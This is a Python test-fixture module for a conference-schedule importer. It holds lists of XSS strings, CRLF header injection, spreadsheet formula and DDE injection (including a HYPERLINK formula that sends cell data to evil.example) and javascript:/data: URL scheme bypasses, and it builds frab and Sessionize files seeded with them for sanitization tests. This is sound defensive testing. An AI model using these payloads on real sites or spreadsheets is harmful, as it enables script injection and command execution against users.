"""Hostile values and schedule files built from them, for the security tests.

Every text value is something that breaks a page or a format if it is written out unescaped
(markup, event handler attributes, CRLF, formula prefixes, 100k characters, astral-plane text);
every URL is a way to smuggle script past a scheme check.  The file builders put them into
every text and link field each format has, so an import is pushed through all of them.
"""

from __future__ import annotations

import json
import uuid
from xml.sax.saxutils import escape, quoteattr

HOSTILE_TEXT = [
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=1">',
    '" onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    "</textarea></title><svg onload=alert(1)>",
    "line one\r\nSet-Cookie: pwned=1\r\n\r\n<b>body</b>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "😀 emoji 🎉 and astral CJK 𠀋𠂤𪚲 ✓",
    "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    "{{ 7*7 }} {% debug %} ${7*7}",
    "x" * 100_000,
]

HOSTILE_URLS = [
    "javascript:window.__pwned=1",
    "JavaScript:window.__pwned=1",
    "JAVASCRIPT:window.__pwned=1",
    " javascript:window.__pwned=1",
    "\tjavascript:window.__pwned=1",
    "\x01javascript:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "java\nscript:window.__pwned=1",
    "java\rscript:window.__pwned=1",
    "&#106;avascript:window.__pwned=1",
    "&#x6A;avascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "javascript://%0Awindow.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "http:javascript:window.__pwned=1",
    'https://example.org/" onmouseover="window.__pwned=1',
    "//evil.example/x",
]

#: A link that is fine, beside the hostile ones: it must survive the import.
GOOD_URL = "https://example.org/slides.pdf"

#: Which texts become titles (a title of 100k characters is skipped with a note, by design).
TITLES = [t for t in HOSTILE_TEXT if len(t) <= 250]
LONG = HOSTILE_TEXT[-1]


def _guid(kind: str, n: int, salt: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"hallway-hostile/{salt}/{kind}/{n}"))


def frab_json(salt: str) -> bytes:
    """A frab/C3VOC schedule.json with a session per hostile title, every hostile URL as a
    link, an attachment, a speaker link and an avatar, and hostile text everywhere else."""
    events = []
    for n, title in enumerate(TITLES):
        text = HOSTILE_TEXT[n % len(HOSTILE_TEXT)]
        events.append(
            {
                "guid": _guid("session", n, salt),
                "id": n + 1,
                "date": f"2031-05-0{1 + n % 2}T{9 + n % 8:02d}:00:00+02:00",
                "start": f"{9 + n % 8:02d}:00",
                "duration": "00:30",
                "room": "Hall <script>1</script>" if n % 2 else '" onmouseover=alert(1) x="',
                "slug": f"hostile-{n}",
                "url": HOSTILE_URLS[n % len(HOSTILE_URLS)],
                "title": title,
                "subtitle": text[:250],
                "track": 'Track "><svg onload=alert(1)>' if n % 3 else None,
                "type": "talk",
                "language": "en",
                "abstract": text + " " + LONG,
                "description": f"[x]({HOSTILE_URLS[n % len(HOSTILE_URLS)]}) {text}",
                "persons": [
                    {
                        "id": 100 + n,
                        "guid": _guid("person", n, salt),
                        "public_name": title[:200],
                        "biography": text + LONG,
                        "avatar": HOSTILE_URLS[(n + 1) % len(HOSTILE_URLS)],
                        "links": [{"url": u, "title": text[:200]} for u in HOSTILE_URLS]
                        + [{"url": GOOD_URL, "title": "good"}],
                    }
                ],
                "links": [{"url": u, "title": text[:200]} for u in HOSTILE_URLS]
                + [{"url": GOOD_URL, "title": "Slides"}],
                "attachments": [{"url": u, "title": "att"} for u in HOSTILE_URLS],
            }
        )
    rooms: dict[str, list] = {}
    days = []
    for day in ("2031-05-01", "2031-05-02"):
        per_room: dict[str, list] = {}
        for event in events:
            if event["date"].startswith(day):
                per_room.setdefault(event["room"], []).append(event)
                rooms[event["room"]] = []
        days.append(
            {
                "index": len(days) + 1,
                "date": day,
                "day_start": f"{day}T08:00:00+02:00",
                "day_end": f"{day}T20:00:00+02:00",
                "rooms": per_room,
            }
        )
    document = {
        "schedule": {
            "version": "hostile <1>",
            "base_url": "https://hostile.example/",
            "conference": {
                "acronym": f"hostile{salt}",
                "title": "Hostile <script>window.__pwned=1</script> conf",
                "start": "2031-05-01",
                "end": "2031-05-02",
                "daysCount": 2,
                "time_zone_name": "Europe/Berlin",
                "url": "javascript:window.__pwned=1",
                "tracks": [{"name": 'Track "><svg onload=alert(1)>', "color": "#aa00ff"}],
                "rooms": [{"name": name} for name in rooms],
                "days": days,
            },
        }
    }
    return json.dumps(document, ensure_ascii=False).encode()


def frab_xml(salt: str) -> bytes:
    """A frab schedule.xml with the same hostile content (links and attachments as hrefs)."""
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>',
        "<schedule><version>hostile</version><conference>",
        f"<acronym>hostilex{salt}</acronym><title>{escape(HOSTILE_TEXT[0])}</title>",
        "<start>2031-05-01</start><end>2031-05-02</end><days>2</days>",
        "<base_url>https://hostile.example/</base_url>",
        "<time_zone_name>Europe/Berlin</time_zone_name>",
        '<track name="Tracked &lt;b&gt;" color="#00aa11"/>',
        "</conference>",
        '<day index="1" date="2031-05-01"><room name="X &quot;onmouseover=alert(1) x=&quot;">',
    ]
    for n, title in enumerate(TITLES):
        text = HOSTILE_TEXT[n % len(HOSTILE_TEXT)]
        links = "".join(
            f"<link href={quoteattr(u)}>{escape(text[:200])}</link>" for u in HOSTILE_URLS
        )
        attachments = "".join(
            f"<attachment href={quoteattr(u)}>att</attachment>" for u in HOSTILE_URLS
        )
        out.append(
            f'<event id="{n + 1}" guid="{_guid("xsession", n, salt)}">'
            f"<date>2031-05-01T{9 + n % 8:02d}:{(n // 8) * 30:02d}:00+02:00</date>"
            f"<start>{9 + n % 8:02d}:{(n // 8) * 30:02d}</start><duration>00:25</duration>"
            '<room>X "onmouseover=alert(1) x="</room>'
            f"<slug>hostilex-{n}</slug><title>{escape(title)}</title>"
            f"<subtitle>{escape(text[:250])}</subtitle><track>Tracked &lt;b&gt;</track>"
            f"<type>talk</type><language>en</language>"
            f"<abstract>{escape(text)}</abstract><description>{escape(LONG)}</description>"
            f'<persons><person id="{500 + n}">{escape(title[:200])}</person></persons>'
            f"<links>{links}<link href={quoteattr(GOOD_URL)}>good</link></links>"
            f"<attachments>{attachments}</attachments></event>"
        )
    out.append("</room></day></schedule>")
    # XML 1.0 cannot hold most C0 controls even as references: leave those URLs out here
    # (frab JSON and Sessionize carry them).
    text = "\n".join(out)
    return text.replace("\x01", "").encode()


def sessionize(salt: str) -> bytes:
    """A Sessionize "All" export with hostile speakers (links, pictures) and sessions."""
    speakers = [
        {
            "id": _guid("sz-speaker", n, salt),
            "fullName": title[:200],
            "bio": HOSTILE_TEXT[n % len(HOSTILE_TEXT)],
            "profilePicture": HOSTILE_URLS[n % len(HOSTILE_URLS)],
            "links": [{"url": u, "title": title[:100], "linkType": "Blog"} for u in HOSTILE_URLS]
            + [{"url": GOOD_URL, "title": "good", "linkType": "Blog"}],
        }
        for n, title in enumerate(TITLES)
    ]
    sessions = [
        {
            "id": str(7000 + n),
            "title": title,
            "description": HOSTILE_TEXT[n % len(HOSTILE_TEXT)],
            "startsAt": f"2031-05-01T{9 + n % 8:02d}:00:00",
            "endsAt": f"2031-05-01T{9 + n % 8:02d}:45:00",
            "roomId": str(1 + n % 2),
            "speakers": [speakers[n]["id"]],
            "categoryItems": [11],
            "recordingUrl": HOSTILE_URLS[n % len(HOSTILE_URLS)],
            "liveUrl": HOSTILE_URLS[(n + 3) % len(HOSTILE_URLS)],
        }
        for n, title in enumerate(TITLES)
    ]
    document = {
        "sessions": sessions,
        "speakers": speakers,
        "questions": [],
        "categories": [{"id": 1, "title": "Track", "items": [{"id": 11, "name": HOSTILE_TEXT[1]}]}],
        "rooms": [{"id": 1, "name": HOSTILE_TEXT[0]}, {"id": 2, "name": HOSTILE_TEXT[2]}],
    }
    return json.dumps(document, ensure_ascii=False).encode()
